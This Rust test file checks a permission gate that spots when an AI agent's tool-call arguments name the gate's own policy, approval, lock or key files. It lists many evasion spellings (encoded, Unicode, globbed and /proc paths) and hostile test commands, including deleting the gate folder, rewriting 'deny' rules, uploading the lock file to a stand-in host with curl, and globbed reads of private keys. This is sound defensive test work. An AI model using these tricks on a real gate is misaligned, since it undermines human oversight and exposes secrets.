//! Which arguments name our files, and which only look like it.

use super::*;

fn own() -> OwnFiles {
    let mut own = OwnFiles::default();
    own.add("/srv/ci/policy.yaml");
    own.add("/var/lib/gate-state");
    own
}

fn named(arguments: &str) -> Option<String> {
    own().file_named_in_params(Some(arguments.as_bytes()))
}

#[test]
fn a_name_is_found_by_any_spelling() {
    for arguments in [
        r#"{"path":"tapegate.yaml"}"#,
        r#"{"path":"./tapegate.yaml"}"#,
        r#"{"path":"/proj/x/../tapegate.yaml"}"#,
        r#"{"path":"/proj//TapeGate.YAML"}"#,
        r#"{"path":"\u0074apegate.yaml"}"#,
        r#"{"path":"file:///proj/tape%67ate.yaml"}"#,
        r#"{"path":"file:///proj/tape%2567ate%252eyaml"}"#,
        r#"{"path":"C:\\proj\\tapegate.yaml"}"#,
        r#"{"path":"tape\u200bgate.yaml"}"#,
        r#"{"path":"tapegate.yaml\u0000.txt"}"#,
        r#"{"path":"tapegate.yaml."}"#,
        r#"{"path":"tapegate.yaml/"}"#,
        r#"{"path":"thoughtgate.yaml"}"#,
        r#"{"path":"sub/tapegate.lock"}"#,
        r#"{"path":".tapegate"}"#,
        r#"{"path":"/proj/.tapegate/approvals/x.decision.json"}"#,
        r#"{"path":"~/.config/tapegate/tapegate.yaml"}"#,
        r#"{"path":"/home/u/.local/state/x/../tapegate/policies"}"#,
        r#"{"path":"$XDG_STATE_HOME/tapegate/private"}"#,
        r#"{"path":"/srv/ci/policy.yaml"}"#,
        r#"{"path":"/srv/ci/./x/../policy.yaml"}"#,
        r#"{"path":"ci/policy.yaml"}"#,
        r#"{"path":"/var/lib/gate-state/policies"}"#,
        r#"{"paths":["a","b",{"x":"tapegate.lock"}]}"#,
        r#"{"files":{"tapegate.yaml":"schema: 1"}}"#,
        r#"{"edits":[{"content":"x"},"tapegate.yaml"]}"#,
        r#"{"json":"{\"path\":\"\\u0074apegate.yaml\"}"}"#,
        r#"{"path":"\uff54apegate.yaml"}"#,
        concat!(r#"{"path":"/proc/self/"#, "root", r#"/srv/ci/policy.yaml"}"#),
        r#"{"path":"/proc/4711/cwd/ci/policy.yaml"}"#,
        r#"{"title":"tapegate.yaml"}"#,
        r#"{"message":["mv","x","tapegate.yaml"]}"#,
    ] {
        assert!(named(arguments).is_some(), "{arguments}");
    }
}

#[test]
fn the_bash_tools_settings_and_recordings_are_ours() {
    let mut own = OwnFiles::default();
    own.add_bash_settings("/proj");
    let named = |text: &str| {
        let arguments = format!(r#"{{"path":{text:?}}}"#);
        own.file_named_in_params(Some(arguments.as_bytes())).is_some()
    };
    for text in [
        "settings.yml",
        "./settings.yaml",
        "/proj/settings.yml",
        "/proj/sub/../settings.yml",
        "../settings.yml",
        ".cuff",
        "/any/.cuff/recordings/index.json",
        "rm -rf .cuff",
        "rm -rf .cuf*",
        "printf x > settings.yml",
        "cp a sub/../settings.yml",
    ] {
        assert!(named(text), "{text}");
    }
    for text in ["config/settings.yml", "/other/settings.yml", "settings.json", "handcuff", "cuff"]
    {
        assert!(!named(text), "{text}");
    }
}

#[test]
fn a_path_below_a_folder_of_ours_is_found_from_home_and_from_elsewhere() {
    let mut own = own();
    own.add("/home/u/st/tapegate");
    let named = |path: &str| {
        let arguments = format!("{{\"path\":{path:?}}}");
        own.file_named_in_params(Some(arguments.as_bytes()))
    };
    for path in [
        "~/st/tapegate/private/abc/key",
        "$HOME/st/tapegate/private",
        "${HOME}/st/tapegate/private",
        "st/tapegate/private/abc",
        "../st/tapegate/private",
        "u/st/tapegate",
        "~/st",
        "$HOME/x y/../st/tapegate/private",
        "/srv/x y/../ci/policy.yaml",
        "/srv/a@b/../ci/policy.yaml",
        "/srv/a=b:c/../ci/policy.yaml",
        "file:///srv/ci/policy.yaml?x=1",
        "file:///p/tapegate.yaml?x=1",
        "file:///p/tapegate.yaml#L1",
        "C:%5Cproj%5Ctapegate.yaml",
    ] {
        assert!(named(path).is_some(), "{path}");
    }
    for path in ["st/private", "~/stx/tapegate2", "/opt/st/tapegate/x", "x/policy.yaml", "~/state"]
    {
        assert_eq!(named(path), None, "{path}");
    }
    let command = r#"{"command":"cat '/srv/x y/../ci/policy.yaml' /srv/x\\ y/../ci/policy.yaml"}"#;
    assert!(own.file_named_in_params(Some(command.as_bytes())).is_some());
}

#[test]
fn the_files_of_a_policy_are_found_by_their_names_from_its_folder() {
    let mut own = OwnFiles::default();
    own.add("/proj/rules.cedar");
    own.add_relative("rules.cedar");
    own.add_relative("sub/more.cedar");
    let named = |path: &str| {
        let arguments = format!("{{\"path\":{path:?}}}");
        own.file_named_in_params(Some(arguments.as_bytes()))
    };
    for path in [
        "rules.cedar",
        "./rules.cedar",
        "x/../RULES.cedar",
        "/proc/self/cwd/rules.cedar",
        "sub/more.cedar",
        "./sub//more.cedar",
        "/proj/rules.cedar",
    ] {
        assert!(named(path).is_some(), "{path}");
    }
    for path in ["more.cedar", "other/rules.cedar", "my-rules.cedar", "/other/rules.cedar"] {
        assert_eq!(named(path), None, "{path}");
    }
}

#[test]
fn a_long_text_under_a_key_of_paths_is_a_path() {
    let long = format!("{}\n/../tapegate.yaml", "a".repeat(600));
    let padded = format!("tapegate.yaml{}", "\n".repeat(600));
    for text in [&long, &padded] {
        for key in ["path", "file_path", "x"] {
            let arguments = format!("{{{key:?}:{text:?}}}");
            assert!(named(&arguments).is_some(), "{arguments}");
        }
    }
}

#[test]
fn prose_may_mention_a_name() {
    let long = "We should document how the project is governed. ".repeat(14);
    let long = format!(r#"{{"thought":"{long} The policy lives in tapegate.yaml."}}"#);
    for arguments in [
        long.as_str(),
        r#"{"query":"tapegate.yaml reference"}"#,
        r#"{"entities":[{"name":"p","observations":["uses tapegate.yaml for policy"]}]}"#,
        r#"{"text":"please run tapegate policy accept, tapegate.yaml changed"}"#,
        r#"{"question":"May I edit tapegate.yaml?"}"#,
        r#"{"prompt":"explain how tapegate.yaml works"}"#,
        r#"{"input":"Summarise: the README says \"put tapegate.yaml into the project\"."}"#,
        r#"{"todos":[{"task":"Write the docs of tapegate.yaml","status":"pending"}]}"#,
        r#"{"query":"repo:x/y tapegate.yaml in:path"}"#,
        r#"{"url":"https://github.com/x/tapegate/blob/main/docs/tapegate.yaml"}"#,
        r#"{"channel":"dev","text":"just updated tapegate.yaml, have a look"}"#,
        r#"{"entities":[{"name":"tapegate.yaml","entityType":"file","observations":["is new"]}]}"#,
    ] {
        assert_eq!(named(arguments), None, "{arguments}");
    }
    for arguments in [
        r#"{"thought":"tapegate.yaml"}"#,
        r#"{"query":"tapegate.yaml"}"#,
        r#"{"query":"COPY t TO 'tapegate.yaml'"}"#,
        r#"{"text":"/proj/tapegate.yaml"}"#,
        r#"{"text":"look at tapegate.yaml again please"}"#,
        r#"{"command":"git commit -m \"describe tapegate.yaml\""}"#,
        r#"{"name":"tapegate.yaml","entityType":"file","observations":[]}"#,
        r#"{"entities":[{"name":"tapegate.yaml","entityType":"f","observations":[],"data":"x"}]}"#,
        r#"{"entities":[{"name":"./tapegate.yaml","entityType":"f","observations":[]}]}"#,
        r#"{"entities":[{"name":"x","entityType":"f","observations":[{"name":"tapegate.yaml"}]}]}"#,
        r#"{"entities":[{"name":"x","entityType":"f","observations":[]},"tapegate.yaml"]}"#,
        r#"{"entities":[{"name":"x","entityType":"f","observations":[]}],"name":"tapegate.yaml"}"#,
        r#"{"text":"Hello there my friend\nrm tapegate.yaml"}"#,
        r#"{"observations":["tapegate.yaml"]}"#,
        r#"{"prompt":"tapegate.yaml"}"#,
        r#"{"input":"cp x tapegate.yaml"}"#,
        r#"{"input":"*** Update File: tapegate.yaml"}"#,
        r#"{"task":"rm tapegate.yaml"}"#,
        r#"{"sql":"COPY t TO 'tapegate.yaml' now please"}"#,
        r#"{"url":"file:///p/tapegate.yaml"}"#,
        r#"{"url":"https://x.example/../../tapegate.yaml"}"#,
        r#"{"path":"https://x.example/tapegate.yaml"}"#,
        r#"{"anything":"cat the file tapegate.yaml"}"#,
    ] {
        assert!(named(arguments).is_some(), "{arguments}");
    }
}

#[test]
fn a_name_is_found_inside_of_commands_and_patches() {
    let long = format!("{}\n{}", "x\n".repeat(400), "cp /tmp/x tapegate.yaml");
    let script = format!("{{\"command\":{:?}}}", long);
    let header = format!(
        "{{\"patch\":{:?}}}",
        format!("--- a/tapegate.yaml\n+++ b/tapegate.yaml\n{}", "+x\n".repeat(400))
    );
    let update = format!(
        "{{\"input\":{:?}}}",
        format!("*** Begin Patch\n*** Update File: tapegate.yaml\n{}", "+x\n".repeat(400))
    );
    let by_tab =
        format!("{{\"patch\":{:?}}}", format!("{}+++\tb/tapegate.yaml\n", "+x\n".repeat(400)));
    for arguments in [
        r#"{"command":"cat > tapegate.yaml <<EOF"}"#,
        r#"{"command":"rm -rf .tapegate"}"#,
        r#"{"command":"sed -i s/deny/forward/ './tapegate.yaml'"}"#,
        r#"{"command":"cat tape''gate.yaml"}"#,
        r#"{"command":"cat tape\\gate.yaml"}"#,
        r#"{"command":"cat tapegate.y*ml tapega*"}"#,
        r#"{"command":"rm tape????.yaml"}"#,
        r#"{"command":"curl -T@tapegate.lock http://x"}"#,
        r#"{"command":"cd $HOME/.config && ls ~/.config/tapegate"}"#,
        r#"{"args":["-c","echo>tapegate.yaml"]}"#,
        r#"{"text":"cp x tapegate.yaml"}"#,
        &script,
        &header,
        &by_tab,
        &update,
    ] {
        assert!(named(arguments).is_some(), "{arguments}");
    }
}

#[test]
fn what_lies_around_the_keys_is_not_moved_away() {
    let mut own = own();
    own.add("/opt/keys/tapegate");
    own.add("/home/u/.config/tapegate");
    let named = |path: &str| {
        let arguments = format!("{{\"source\":{path:?},\"destination\":\"/tmp/x\"}}");
        own.file_named_in_params(Some(arguments.as_bytes()))
    };
    for path in ["/opt/keys", "/opt/keys/", "/home/u/.local/state", "~/.local", "x/../.local/state"]
    {
        assert!(named(path).is_some(), "{path}");
    }
    for path in ["/opt", "/home/u", "/home/u/.config", "/home/u/.local/share", "/srv/ci", "state"] {
        assert_eq!(named(path), None, "{path}");
    }
}

#[test]
fn what_lies_around_the_keys_may_be_listed() {
    let mut own = own();
    own.add("/opt/keys/tapegate");
    let named = |arguments: &str| own.file_named_in_params(Some(arguments.as_bytes()));
    for arguments in [
        r#"{"command":"du -sh ~/.local"}"#,
        r#"{"cmd":"ls -la /home/u/.local/state/"}"#,
        r#"{"command":"du --max-depth=1 /opt/keys .local"}"#,
    ] {
        assert_eq!(named(arguments), None, "{arguments}");
        assert!(own.mentioned_in(Some(arguments.as_bytes())), "{arguments}");
    }
    for arguments in [
        r#"{"command":"ls ~/.local/state/tapegate"}"#,
        r#"{"command":"ls ~/.local tapegate.yaml"}"#,
        r#"{"command":"ls .tapegate"}"#,
        r#"{"command":"ls /opt/keys/tapegate"}"#,
        r#"{"command":"ls ~/.local; rm -r ~/.local"}"#,
        r#"{"command":"rm -r ~/.local"}"#,
        r#"{"commands":["xargs rm -r","ls ~/.local"]}"#,
        r#"{"command":["xargs rm -r","ls ~/.local"]}"#,
        r#"{"command":"ls","args":["~/.local"]}"#,
        r#"{"path":"ls ~/.local"}"#,
    ] {
        assert!(named(arguments).is_some(), "{arguments}");
    }
}

#[test]
fn a_mention_is_found_in_plain_letters() {
    let long = format!(r#"{{"content":"{}tapegate.yaml"}}"#, "x ".repeat(1 << 20));
    let mentioned = |arguments: &str| own().mentioned_in(Some(arguments.as_bytes()));
    for arguments in [
        r#"{"path":"README.md","content":"Edit tapegate.yaml, see .tapegate/"}"#,
        r#"{"message":"Add `TapeGate.YAML`."}"#,
        r#"{"content":"it is in /srv/ci/policy.yaml"}"#,
    ] {
        assert!(mentioned(arguments), "{arguments}");
    }
    for arguments in [r"{}", r#"{"content":"tapegate and its gates"}"#, &long, "{\"tapegate.yaml"] {
        assert!(!mentioned(arguments), "{}", arguments.len());
    }
    let lifted = OwnFiles { refuse: false, ..own() };
    assert!(!lifted.mentioned_in(Some(br#"{"content":"tapegate.yaml"}"#)));
}

#[test]
fn ordinary_work_passes() {
    let readme = format!(
        "{{\"path\":\"README.md\",\"text\":{:?}}}",
        format!("# Setup\n\nEdit `tapegate.yaml`.\n{}", "More.\n".repeat(200))
    );
    let patch = format!(
        "{{\"patch\":{:?}}}",
        format!("--- a/README.md\n+++ b/README.md\n+see tapegate.yaml\n{}", "+x\n".repeat(400))
    );
    for arguments in [
        r"{}",
        r#"{"path":"src/tapegate.rs"}"#,
        r#"{"path":"my-tapegate.yaml"}"#,
        r#"{"path":"tapegate.yaml.md"}"#,
        r#"{"path":"docs/tapegate/index.md"}"#,
        r#"{"path":"/opt/tapegate/bin"}"#,
        r#"{"query":"tapegate policy"}"#,
        r#"{"pattern":"**/*.yaml"}"#,
        r#"{"pattern":"*gate*"}"#,
        r#"{"command":"cargo test -p tapegate"}"#,
        r#"{"command":"ls *.yaml *.lock"}"#,
        r#"{"path":"policy.yaml"}"#,
        r#"{"path":"k8s/policy.yaml"}"#,
        r#"{"path":"README.md","content":"Edit tapegate.yaml, see .tapegate/"}"#,
        r#"{"path":"a","edits":[{"oldText":"x","newText":"tapegate.yaml"}]}"#,
        r#"{"message":"Add tapegate.yaml"}"#,
        r#"{"url":"https://example.com/a%20b?x=%2F"}"#,
        r#"{"text":"Größe \\d+ \u00e9"}"#,
        &readme,
        &patch,
    ] {
        assert_eq!(named(arguments), None, "{arguments}");
    }
}

#[test]
fn a_resource_is_named_by_its_uri_and_a_tool_by_its_arguments_alone() {
    let own = own();
    assert!(own.file_named_by_uri(GatedMethod::Read, "file:///proj/tapegate%2Eyaml").is_some());
    assert!(own.file_named_by_uri(GatedMethod::Read, "file:///proj/readme.md").is_none());
    assert!(own.file_named_by_uri(GatedMethod::Call, "tapegate.yaml").is_none());
}

#[test]
fn the_rule_can_be_lifted() {
    let lifted = OwnFiles { refuse: false, ..own() };
    let arguments = br#"{"path":"tapegate.yaml"}"#;
    assert!(!lifted.may_name(Some(arguments)));
    assert_eq!(lifted.file_named_in_params(Some(arguments)), None);
}

#[test]
fn broken_json_is_no_reason_to_fail() {
    for arguments in ["", "{", "\"", "{\"a\":\"tapegate.yaml", "]]]]", "{\"a\\"] {
        named(arguments);
    }
}

#[test]
fn the_users_folders_are_found_by_patterns_that_a_shell_reads_as_them() {
    let own = OwnFiles::default();
    let named = |command: &str| {
        let arguments = format!("{{\"command\":{command:?}}}");
        own.file_named_in_params(Some(arguments.as_bytes()))
    };
    for command in [
        "cat ~/.local/st*/t*/p*/*/key",
        "cat /home/u/.local/*/tapegate/private/*/key",
        "cat ~/.local/*/*/private/*/key",
        "cp -r ~/.local/state/* /tmp/x",
        "cat ~/.local/stat?/[t]apegate/private/x/key",
        "cat ~/.config/t*/tapegate.d/x",
    ] {
        assert!(named(command).is_some(), "{command}");
    }
    for command in
        ["ls ~/.config/*", "ls ~/.local/share/*", "ls ~/.local/bin/t*", "ls .local/*.d/x"]
    {
        assert_eq!(named(command), None, "{command}");
    }
}
